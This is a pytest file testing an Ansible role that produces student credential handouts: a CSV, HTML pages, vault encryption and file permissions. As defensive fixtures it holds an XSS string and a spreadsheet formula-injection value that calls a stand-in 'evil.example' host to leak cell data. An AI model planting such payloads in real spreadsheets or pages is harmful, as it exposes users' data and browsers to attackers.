"""The handout of the credentials role, on the controller alone: the cohort CSV, the students' printable pages,
their vault encryption, and rewriting them only when a secret changes.

Like test_credentials_secrets.py, it runs the role's secrets and handout task files against the controller (they
never touch a VM), once per student, with awkward names and passwords and a real ansible-vault password file.
"""

import csv
import html.parser
import io
import re
import shutil
import stat
import subprocess

import pytest
import yaml

import role_check  # tests/support, on sys.path via conftest

URL = "http://192.0.2.10/"
# A URL the role accepts that needs escaping in HTML.
ODD_URL = 'http://192.0.2.11/?a=<b>&c="d"'
STUDENTS = {
    # A name with a comma, quotes, markup and letters that are not ASCII; a password with CSV and HTML specials.
    "s042": {"credentials_student_name": 'Zoë "Ada" <script>alert(1)</script>, Łukasiewicz',
             "credentials_jupyter_password": "a,b;c\"d'e <i>&amp; f  g",
             "credentials_url": ODD_URL},
    # A roster name that is a formula, and a password starting with one (it must come back as it is).
    "s043": {"credentials_student_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
             "credentials_jupyter_password": "=1+1;\"x,y\"@-+"},
    # Nothing given: a generated password and no name.
    "s044": {},
}
VAULT_HEADER = b"$ANSIBLE_VAULT;1.2;AES256;coursevm"
RECAP_UNCHANGED = re.compile(r"localhost\s*:\s*ok=\d+\s+changed=0\s")


def run(course, student, extra=None, verbosity="-v", vault=False):
    extra_vars = {"credentials_student": student, "credentials_secrets_dir": str(course["dir"]),
                  "credentials_url": URL, **STUDENTS[student], **(extra or {})}
    if vault:
        extra_vars["credentials_vault_password_file"] = str(course["vault"])
    result = role_check.run_playbook(course["play"], extra_vars, verbosity, timeout=600)
    output = result.stdout + result.stderr
    assert result.returncode == 0, output
    return output


def raw(course, name):
    return (course["dir"] / name).read_bytes()


def plain(course, name):
    """A controller file's text: as it is, or as `ansible-vault view` shows it when it is vault-encrypted."""
    data = raw(course, name)
    if data.startswith(b"$ANSIBLE_VAULT;"):
        data = subprocess.run(["ansible-vault", "view", "--vault-password-file", str(course["vault"]),
                               str(course["dir"] / name)], capture_output=True, check=True).stdout
    return data.decode("utf-8-sig")


def record(course, student):
    return yaml.safe_load(plain(course, student + ".yml"))


def csv_rows(course):
    """The handout CSV as dicts, read as a spreadsheet-minded program would (csv.reader, UTF-8 with its BOM)."""
    rows = list(csv.reader(io.StringIO(plain(course, "handout.csv"), newline="")))
    return [dict(zip(rows[0], row)) for row in rows[1:]], rows[0]


class Page(html.parser.HTMLParser):
    """The text of each element with an id, the links, the tags, and any resource a page would load."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.by_id, self.links, self.tags, self.loads = {}, {}, [], []
        self._open = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.tags.append(tag)
        if "id" in attrs:
            self._open.append([attrs["id"], tag, ""])
        if tag == "a" and "id" in attrs:
            self.links[attrs["id"]] = attrs.get("href")
        if "src" in attrs or (tag == "link" and "href" in attrs):
            self.loads.append((tag, attrs))

    def handle_endtag(self, tag):
        if self._open and self._open[-1][1] == tag:
            key, _tag, text = self._open.pop()
            self.by_id[key] = text

    def handle_data(self, data):
        for entry in self._open:
            entry[2] += data


@pytest.fixture(scope="module")
def plain_course(tmp_path_factory):
    course = role_check.credentials_course(tmp_path_factory.mktemp("plain"))
    for student in STUDENTS:
        run(course, student)
    return course


@pytest.fixture(scope="module")
def vault_course(tmp_path_factory):
    """Three students with vault on; the outputs of their runs, two at -vvv (a given and a generated password)."""
    course = role_check.credentials_course(tmp_path_factory.mktemp("vault"))
    course["outputs"] = [run(course, "s042", vault=True, verbosity="-vvv"), run(course, "s043", vault=True),
                         run(course, "s044", vault=True, verbosity="-vvv")]
    return course


def passwords(course):
    return [value for student in STUDENTS for key, value in record(course, student).items() if key.endswith("password")]


def test_the_csv_round_trips_awkward_names_and_passwords(plain_course):
    rows, header = csv_rows(plain_course)
    assert header == ["student", "name", "url", "ssh_user", "jupyter_password", "unix_password",
                      "student_changed_at"]
    assert [row["student"] for row in rows] == ["s042", "s043", "s044"]
    for row in rows:
        recorded = record(plain_course, row["student"])
        # Passwords exactly as recorded, also one that starts like a formula.
        assert row["jupyter_password"] == recorded["jupyter_password"]
        assert row["unix_password"] == recorded["unix_password"]
        assert row["url"] == recorded["url"] and row["ssh_user"] == recorded["ssh_user"]
    by_id = {row["student"]: row for row in rows}
    assert by_id["s042"]["name"] == STUDENTS["s042"]["credentials_student_name"]
    assert by_id["s043"]["jupyter_password"] == STUDENTS["s043"]["credentials_jupyter_password"]
    # The formula in a name is shown as text: a quote in front, nothing else changed.
    assert by_id["s043"]["name"] == "'" + STUDENTS["s043"]["credentials_student_name"]
    assert by_id["s044"]["name"] == ""


def test_the_csv_is_quoted_utf8_with_crlf_lines(plain_course):
    data = raw(plain_course, "handout.csv")
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[-1] == "" and len(lines) == 5
    # Every field quoted: each line is "..." separated by "," with no bare field ("" inside is a quote).
    assert all(re.fullmatch(r'"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*', line) for line in lines[:-1])


def test_each_students_page_holds_the_exact_password_and_escaped_values(plain_course):
    for student in STUDENTS:
        recorded = record(plain_course, student)
        text = plain(plain_course, "handout/%s.html" % student)
        page = Page(text)
        assert page.by_id["jupyter-password"] == recorded["jupyter_password"]
        assert page.by_id["ssh-user"] == recorded["ssh_user"]
        url = recorded["url"]
        base = url if url.endswith("/") else url + "/"
        assert page.links["url"] == url and page.by_id["url"] == url
        assert page.links["openrefine"] == base + "proxy/3334/" and page.links["nbdime"] == base + "proxy/8899/"
        assert "script" not in page.tags and not page.loads  # no markup from the values, nothing loaded
        assert "<script" not in text.lower()
        assert recorded["unix_password"] not in text  # the course team's, not on the student's sheet
        assert text.lstrip().lower().startswith("<!doctype html>") and "<!--" in text
        if recorded["name"]:
            assert page.by_id["student-name"] == recorded["name"]
    # The URL with <, &, " in it is a link to that same URL.
    assert record(plain_course, "s042")["url"] == ODD_URL


def test_the_index_lists_every_student_and_no_password(plain_course):
    text = plain(plain_course, "handout/index.html")
    page = Page(text)
    assert "script" not in page.tags and not page.loads
    for student in STUDENTS:
        assert 'href="%s.html"' % student in text
    for secret in passwords(plain_course):
        assert secret not in text


def test_without_vault_the_files_are_owner_only(plain_course):
    folder = plain_course["dir"]
    assert stat.S_IMODE((folder / "handout").stat().st_mode) == 0o700
    files = [folder / "handout.csv"] + sorted((folder / "handout").iterdir())
    assert len(files) == 1 + len(STUDENTS) + 1
    for path in files:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
        assert not path.read_bytes().startswith(b"$ANSIBLE_VAULT;")


def test_with_vault_no_file_holds_a_password_in_plain_text(vault_course):
    secrets = passwords(vault_course)
    assert len(secrets) == 2 * len(STUDENTS)
    files = [path for path in vault_course["dir"].rglob("*") if path.is_file()]
    assert {path.name for path in files} >= {"handout.csv", "index.html", "s042.html", "s043.html", "s044.html"}
    for path in files:
        data = path.read_bytes()
        assert data.startswith(VAULT_HEADER), path
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
        for secret in secrets:
            assert secret.encode("utf-8") not in data, path
    # ...and the course team reads them back with ansible-vault.
    rows, _header = csv_rows(vault_course)
    for row in rows:
        recorded = record(vault_course, row["student"])
        assert (row["jupyter_password"], row["unix_password"]) == (recorded["jupyter_password"],
                                                                   recorded["unix_password"])
        page = Page(plain(vault_course, "handout/%s.html" % row["student"]))
        assert page.by_id["jupyter-password"] == recorded["jupyter_password"]


def test_no_password_is_printed_even_at_vvv(vault_course):
    output = "\n".join(vault_course["outputs"])
    for secret in passwords(vault_course):
        assert secret not in output
    # The -vvv run did show task results (censored), so the check looked at a verbose output.
    assert "censored" in vault_course["outputs"][-1]


def test_a_rerun_changes_nothing_and_a_reset_rewrites_only_what_changed(vault_course, tmp_path):
    course = dict(vault_course, dir=tmp_path / "secrets")
    shutil.copytree(vault_course["dir"], course["dir"])
    names = ["handout.csv", "handout/index.html", "handout/s042.html", "handout/s043.html", "handout/s044.html"]
    before = {name: raw(course, name) for name in names}

    # Nothing changed: vault text is salted, so equal bytes mean nothing was rewritten.
    output = run(course, "s043", vault=True)
    assert RECAP_UNCHANGED.search(output), output
    assert {name: raw(course, name) for name in names} == before

    # A reset (what reset_password.yml asks of the role) of another student's password.
    old = record(course, "s044")["jupyter_password"]
    output = run(course, "s044", {"credentials_rotate": ["jupyter"]}, vault=True)
    new = record(course, "s044")["jupyter_password"]
    assert new != old and new not in output
    after = {name: raw(course, name) for name in names}
    assert [name for name in names if after[name] != before[name]] == ["handout.csv", "handout/s044.html"]
    rows, _header = csv_rows(course)
    assert {row["student"]: row["jupyter_password"] for row in rows}["s044"] == new
    assert old not in plain(course, "handout.csv")
    assert Page(plain(course, "handout/s044.html")).by_id["jupyter-password"] == new
    # And again: nothing to do.
    assert RECAP_UNCHANGED.search(run(course, "s044", vault=True))
    assert raw(course, "handout/s044.html") == after["handout/s044.html"]
